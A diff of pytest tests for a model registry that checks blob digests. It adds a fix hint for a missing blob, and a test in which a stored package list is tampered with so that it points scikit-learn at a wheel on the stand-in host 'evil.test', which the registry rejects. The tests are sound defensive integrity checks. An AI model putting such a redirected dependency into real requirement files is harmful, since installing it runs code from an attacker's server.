@@ -330,8 +330,19 @@ def test_damaged_blob_is_found_out(registry: Registry, model: Path, tmp_path: Pa
         registry.fetch(found, tmp_path / "got")
     assert not (tmp_path / "got" / "model.joblib").exists()
     registry.store.delete(blob_path(found.files[0].digest))
-    with pytest.raises(RemoteFailed, match="is gone"):
+    with pytest.raises(RemoteFailed, match="is gone") as raised:
         registry.fetch(found, tmp_path / "got")
+    assert "register the same model again, which puts it back" in raised.value.fix
+    assert register(registry, Registration("m", model)).created is False
+    assert registry.fetch(found, tmp_path / "got").read_bytes() == b"model one"
+
+
+def test_a_list_of_packages_that_somebody_changed_is_not_installed(registry: Registry) -> None:
+    kept = registry.put_bytes(b"scikit-learn==1.7.0\n", "packages.txt").digest
+    assert registry.read_blob(kept) == b"scikit-learn==1.7.0\n"
+    registry.store.put(blob_path(kept), b"scikit-learn @ https://evil.test/x.whl\n")
+    with pytest.raises(RemoteFailed, match="does not have the bytes that its name promises: found sha256:"):
+        registry.read_blob(kept)
 
 
 def test_model_that_changed_after_the_pipeline_is_refused(model: Path) -> None:
